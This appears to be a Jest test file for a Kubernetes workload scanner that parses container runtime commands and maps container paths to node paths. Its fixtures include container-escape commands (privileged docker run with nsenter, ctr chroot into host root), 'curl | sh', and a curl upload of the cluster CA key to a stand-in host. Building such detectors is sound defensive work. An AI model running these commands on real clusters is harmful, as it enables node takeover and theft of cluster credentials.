import { describe, expect, it } from '@jest/globals';

import { commandSites, mentionedHostPaths, runOptionValues, runtimeRun } from './commands.js';
import { hostMounts, toHostPath } from './host-paths.js';
import { job, one } from '../../test/support/workloads.js';

const SPEC = 'spec.template.spec';

describe('runtimeRun', () => {
  it.each<
    [
      string,
      string,
      { client: string; subcommand: string; endpoint?: string; options: string[]; inner?: string },
    ]
  >([
    [
      'docker -H … run with flags and a command',
      'docker -H unix:///var/run/docker.sock run --privileged --pid=host -v /:/host alpine nsenter -t 1',
      {
        client: 'docker',
        subcommand: 'run',
        endpoint: 'unix:///var/run/docker.sock',
        options: ['--privileged', '--pid=host', '--volume=/:/host'],
        inner: 'nsenter',
      },
    ],
    [
      'short flag clusters and valued options',
      'docker container run -it --rm -e A=1 --name x alpine:3 sh',
      {
        client: 'docker',
        subcommand: 'run',
        options: ['--interactive', '--tty', '--rm', '--env=A=1', '--name=x'],
        inner: 'sh',
      },
    ],
    [
      'ctr: IMAGE then ID before the command',
      'ctr --address /run/containerd/containerd.sock -n k8s.io run --rm --mount type=bind,src=/,dst=/h img id chroot /h',
      {
        client: 'ctr',
        subcommand: 'run',
        endpoint: '/run/containerd/containerd.sock',
        options: ['--rm', '--mount=type=bind,src=/,dst=/h'],
        inner: 'chroot',
      },
    ],
    [
      'crictl runp',
      'crictl -r unix:///run/crio/crio.sock runp pod.json',
      { client: 'crictl', subcommand: 'runp', endpoint: 'unix:///run/crio/crio.sock', options: [] },
    ],
    [
      'no command: the image entrypoint',
      'nerdctl run -d nginx',
      { client: 'nerdctl', subcommand: 'run', options: ['--detach'] },
    ],
  ])('%s', (_name, script, expected) => {
    const command = one(script);
    const run = runtimeRun(command);
    expect(run && { ...run, commandIndex: undefined }).toEqual({
      ...expected,
      inner: undefined,
      commandIndex: undefined,
    });
    expect(run?.commandIndex === undefined ? undefined : command.argv[run.commandIndex]).toBe(expected.inner);
  });

  it.each([
    'crictl --runtime-endpoint unix:///run/containerd/containerd.sock rmi --prune',
    'docker build -t x .',
    'docker ps',
    'ctr images pull x',
  ])('is undefined for %s', (script) => {
    expect(runtimeRun(one(script))).toBeUndefined();
  });

  it('reads option values in any spelling', () => {
    const run = runtimeRun(one('podman run --pid host --net=host --cap-add SYS_ADMIN x'));
    expect(run && runOptionValues(run, '--pid', '--net')).toEqual(['host', 'host']);
  });
});

describe('commands run in a started container or chroot', () => {
  it('parses them as commands with the paths of their words', () => {
    const workload = job({
      containers: [
        {
          name: 'c',
          image: 'a',
          command: [
            'ctr',
            'run',
            '--privileged',
            'img',
            'id',
            'chroot',
            '/host',
            'sh',
            '-c',
            'curl -s h | sh',
          ],
        },
      ],
    });
    expect(commandSites(workload).map((site) => [site.command.program, site.path])).toEqual([
      ['ctr', `${SPEC}.containers[0].command[0]`],
      ['chroot', `${SPEC}.containers[0].command[5]`],
      ['sh', `${SPEC}.containers[0].command[7]`],
      ['curl', `${SPEC}.containers[0].command[9]`],
      ['sh', `${SPEC}.containers[0].command[9]`],
    ]);
  });
});

describe('container paths to node paths', () => {
  const spec = (mounts: Record<string, unknown>[], command: string[]): Record<string, unknown> => ({
    containers: [{ name: 'c', image: 'a', command, volumeMounts: mounts }],
    volumes: [
      { name: 'k8s', hostPath: { path: '/etc/kubernetes' } },
      { name: 'root', hostPath: { path: '/' } },
      { name: 'data', emptyDir: {} },
    ],
  });

  it('maps through the deepest mount, with subPath', () => {
    const workload = job(
      spec(
        [
          { name: 'root', mountPath: '/host' },
          { name: 'k8s', mountPath: '/host/k', subPath: 'pki' },
          { name: 'data', mountPath: '/data' },
        ],
        ['true'],
      ),
    );
    const [template] = workload.templates;
    const container = workload.containers[0];
    const mounts = template && container ? hostMounts(template, container) : [];
    expect(toHostPath('/host/k/ca.key', mounts)).toBe('/etc/kubernetes/pki/ca.key');
    expect(toHostPath('/host/etc/shadow', mounts)).toBe('/etc/shadow');
    expect(toHostPath('/host', mounts)).toBe('/');
    expect(toHostPath('/data/x', mounts)).toBeUndefined();
    expect(toHostPath('/hostile/x', mounts)).toBeUndefined();
    expect(toHostPath('relative', mounts)).toBeUndefined();
  });

  it.each<[string, string[], string[]]>([
    [
      'absolute path in an option',
      ['kubectl', '--kubeconfig=/k/admin.conf', 'get', 'ns'],
      ['/etc/kubernetes/admin.conf'],
    ],
    ['curl upload @file', ['curl', '-F', 'f=@/k/pki/ca.key', 'http://h'], ['/etc/kubernetes/pki/ca.key']],
    [
      'tar -C DIR relative member',
      ['tar', 'czf', '/tmp/x', '-C', '/k', 'pki'],
      ['/etc/kubernetes', '/etc/kubernetes/pki'],
    ],
    [
      'cd DIR then a relative file',
      ['sh', '-c', 'cd /k && cat admin.conf'],
      ['/etc/kubernetes', '/etc/kubernetes/admin.conf'],
    ],
    ['not under a hostPath mount', ['cat', '/etc/kubernetes/admin.conf'], []],
  ])('%s', (_name, command, expected) => {
    const workload = job(spec([{ name: 'k8s', mountPath: '/k' }], command));
    const found = commandSites(workload).flatMap((site) =>
      [...mentionedHostPaths(site)].map((m) => m.hostPath),
    );
    expect(found).toEqual(expected);
  });
});
